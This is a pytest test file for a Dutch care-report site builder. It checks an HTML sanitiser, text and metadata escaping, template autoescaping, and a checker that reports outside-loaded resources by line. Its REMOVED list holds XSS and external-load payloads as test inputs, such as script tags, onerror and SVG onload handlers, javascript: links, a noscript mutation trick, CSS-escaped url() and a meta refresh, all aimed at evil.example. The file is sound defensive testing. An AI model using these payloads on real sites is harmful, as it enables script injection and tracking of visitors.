"""Author text stays text, page HTML keeps what authors legitimately write and loses what runs or loads
from another host, and the checker names every outside resource with its line."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from conftest import EXAMPLE, copy_example

from kompas_site.assemble.templates import environment
from kompas_site.check import check_report
from kompas_site.check.findings import FOUT
from kompas_site.cli import main
from kompas_site.load import load_report
from kompas_site.sanitise import escape_page_meta, html_text, markdown_text, sanitise_html

KEPT = [
    '<h2 id="wat-ging-goed">Wat ging goed</h2>',
    '<table>\n<thead>\n<tr>\n<th style="text-align: left;">Jaar</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n'
    '<td colspan="2">2025</td>\n</tr>\n</tbody>\n</table>',
    '<details class="kompas-transcript" open=""><summary>Lees</summary><p>Tekst</p></details>',
    '<p><abbr title="Wet langdurige zorg">Wlz</abbr></p>',
    '<figure class="kompas-video"><figcaption>Film</figcaption></figure>',
    '<picture><source type="image/webp" srcset="../media/a-480.webp 480w, ../media/a-960.webp 960w" '
    'sizes="100vw"><img src="../media/a-960.jpg" srcset="../media/a-960.jpg 960w" sizes="100vw" width="960" '
    'height="640" alt="Gert kookt" loading="lazy" decoding="async" class="kompas-verhaal-foto"></picture>',
    '<video controls="" preload="metadata" playsinline=""><source src="../../media/film.mp4" type="video/mp4">'
    '<track kind="captions" srclang="nl" label="Nederlands" src="../../media/film.nl.vtt" default=""></video>',
    '<div class="kompas-verhaal-kaart" data-perspectief="client" data-kompas-filter="" aria-label="x" role="region" '
    'lang="nl">x</div>',
    '<div data-kompas-video="" data-embed="https://www.youtube-nocookie.com/embed/abc?autoplay=1">x</div>',
    '<p><a href="https://www.zorginstituutnederland.nl/" title="Zorginstituut" hreflang="nl">link</a></p>',
    '<p><a href="mailto:kwaliteit@example.org">mail</a> <a href="#kop">kop</a></p>',
    '<form class="kompas-zoeken" role="search" data-index="index.json" action="#"><label for="q">Zoek</label>'
    '<input id="q" name="q" type="search" autocomplete="off"><select name="s"><option value="">Alle</option>'
    '</select><button type="submit">Zoek</button></form>',
    '<div class="admonition note"><p class="admonition-title">Let op</p><p>Tekst</p></div>',
    '<ol start="3"><li>drie</li></ol><p><small>Bron</small> <mark>x</mark> <sup>1</sup></p>',
]

REMOVED = [
    ("<script>alert(1)</script><p>ok</p>", "<p>ok</p>"),
    ('<script src="https://evil.example/x.js"></script>', ""),
    ('<img src="x" onerror="alert(1)">', '<img src="x">'),
    ('<img src="https://evil.example/a.png" alt="a">', '<img alt="a">'),
    ('<img src="//evil.example/a.png">', "<img>"),
    ('<img srcset="a.png 1x, https://evil.example/b.png 2x">', "<img>"),
    ('<iframe src="https://evil.example/"></iframe><p>ok</p>', "<p>ok</p>"),
    ('<object data="https://evil.example/x"></object><embed src="https://evil.example/x">', ""),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', ""),
    ("<style>body{background:url(https://evil.example/a.png)}</style>", ""),
    ('<p style="background: url(https://evil.example/a.png)">x</p>', "<p>x</p>"),
    ('<p style="background: u\\72l(https://evil.example/a.png)">x</p>', "<p>x</p>"),
    ('<form action="https://evil.example/"><input name="q"></form>', '<form><input name="q"></form>'),
    ('<video poster="https://evil.example/p.jpg" src="https://evil.example/v.mp4"></video>', "<video></video>"),
    ('<video><source src="https://evil.example/v.mp4"></video>', "<video><source></video>"),
    ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<div data-kompas-video="" data-embed="https://evil.example/">x</div>', '<div data-kompas-video="">x</div>'),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>', None),
    ("<svg><script>alert(1)</script></svg>", "<svg></svg>"),  # a chart's SVG stays, its script goes
    ('<svg onload="alert(1)"><use href="https://evil.example/x.svg#a"></use></svg>', "<svg></svg>"),
    ('<svg><image href="https://evil.example/a.png"></image><foreignObject><p>x</p></foreignObject></svg>', None),
    (
        '<svg><style>@import url(https://evil.example/x.css)</style><rect style="fill:url(https://evil.example/a)"></rect></svg>',
        None,
    ),
    ('<base href="https://evil.example/">', ""),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', ""),
    ('<button formaction="https://evil.example/">x</button>', "<button>x</button>"),
]


@pytest.mark.parametrize("html", KEPT)
def test_the_sanitiser_keeps_what_authors_and_our_templates_write(html):
    assert _dom(sanitise_html(html)) == _dom(html)


@pytest.mark.parametrize("html, expected", REMOVED)
def test_the_sanitiser_removes_what_runs_or_loads_from_another_host(html, expected):
    cleaned = sanitise_html(html)
    if expected is not None:
        assert cleaned == expected
    assert not re.search(r"<script|onerror|evil\.example|javascript:|<iframe|<object|<embed|<link", cleaned, re.I)


def test_text_is_shown_as_written_and_cannot_become_markup():
    assert html_text('<b>Zorg & Co\'s "huis"</b>') == "&lt;b&gt;Zorg &amp; Co&#x27;s &quot;huis&quot;&lt;/b&gt;"
    alt = markdown_text("x](https://evil.example/a.png) ![y")
    assert alt == "x\\]\\(https://evil.example/a.png\\) \\!\\[y"
    assert markdown_text("- *nadruk* _x_ `c` {: .rood } # kop | cel\nregel") == (
        "\\- \\*nadruk\\* \\_x\\_ \\`c\\` \\{: .rood \\} \\# kop \\| cel regel"
    )
    assert markdown_text("Zorg & Co's") == "Zorg &amp; Co's"
    meta = {"title": "<script>alert(1)</script>", "description": 'a" onload="x', "other": "<b>"}
    escape_page_meta(meta)
    assert meta == {
        "title": "&lt;script&gt;alert(1)&lt;/script&gt;",
        "description": "a&quot; onload=&quot;x",
        "other": "<b>",
    }


def test_every_page_template_escapes():
    assert environment().autoescape is True
    for template in (EXAMPLE.parent / "templates" / "pages").glob("*.md"):
        assert "|safe" not in template.read_text(encoding="utf-8").replace(" ", ""), template.name


def test_the_example_site_is_unchanged_by_the_sanitiser(tmp_path, monkeypatch):
    """Every page's content HTML, as the adapter has it after the photos became <picture>: the same DOM."""
    from kompas_site import pipeline

    seen: list[str] = []
    original = pipeline.rewrite_images

    def record(html, resolver):
        seen.append(original(html, resolver))
        return seen[-1]

    monkeypatch.setattr(pipeline, "rewrite_images", record)
    assert main(["build", str(EXAMPLE), "-o", str(tmp_path / "site")]) == 0
    assert len(seen) > 30
    assert any("<picture>" in html for html in seen) and any("data-kompas-video" in html for html in seen)
    for html in seen:
        assert _dom(sanitise_html(html)) == _dom(html)


def test_outside_resources_are_a_fout_with_their_line(tmp_path):
    content = tmp_path / "content"

    copy_example(content)
    page = content / "02-zorgproces" / "extern.md"
    page.write_text(
        "---\r\ntitle: Extern\r\n---\r\n\r\n"  # line 1-4, Windows line endings
        "Een [link naar de inspectie](https://www.igj.nl/) mag.\r\n"  # 5
        "\r\n"
        "![Logo](https://cdn.example.org/logo.png)\r\n"  # 7
        "\r\n"
        '<img src="https://example.org/a.png" alt="a">\r\n'  # 9
        "\r\n"
        "<script>alert(1)</script>\r\n"  # 11
        "\r\n"
        '<div class="x">\r\n<p>tekst</p>\r\n<iframe src="https://player.example.org/1"></iframe>\r\n</div>\r\n'  # 13-16
        "\r\n"
        "Tekst met <span style=\"background:url('http://tracker.example.org/p.gif')\">stijl</span>.\r\n"  # 18
        "\r\n"
        '<form action="https://forms.example.org/"><input name="q"></form>\r\n'  # 20
        "\r\n"
        '<video><source src="https://films.example.org/a.mp4"></video>\r\n'  # 22
        "\r\n"
        '<a href="https://www.example.org/">gewone link</a> en <img src="../media/moestuin.jpg" alt="Moestuin">\r\n',
        encoding="utf-8",
    )
    findings = [f for f in check_report(load_report(content)).findings if f.code == "extern-geladen"]
    assert all(f.code == "extern-geladen" and f.severity == FOUT for f in findings)
    assert all(f.file == "02-zorgproces/extern.md" for f in findings)
    assert sorted(f.line for f in findings) == [7, 9, 11, 15, 18, 20, 22]
    by_line = {f.line: f.message for f in findings}
    assert "cdn.example.org" in by_line[7] and "map 'media'" in by_line[7]
    assert "script" in by_line[11]
    assert "tracker.example.org" in by_line[18]
    assert not [
        f for f in check_report(load_report(EXAMPLE)).findings if f.code == "extern-geladen"
    ]  # the example loads nothing from elsewhere


def _dom(html: str) -> list:
    """The DOM events of a piece of HTML, with boolean attributes written either way counted the same."""
    events: list = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attrs):
            events.append(("start", tag, sorted((k, v or "") for k, v in attrs)))

        def handle_endtag(self, tag):
            events.append(("end", tag))

        def handle_data(self, data):
            if events and events[-1][0] == "data":
                events[-1] = ("data", events[-1][1] + data)
            else:
                events.append(("data", data))

    reader = Reader(convert_charrefs=True)
    reader.feed(html)
    reader.close()
    return [e for e in events if e != ("data", "")]
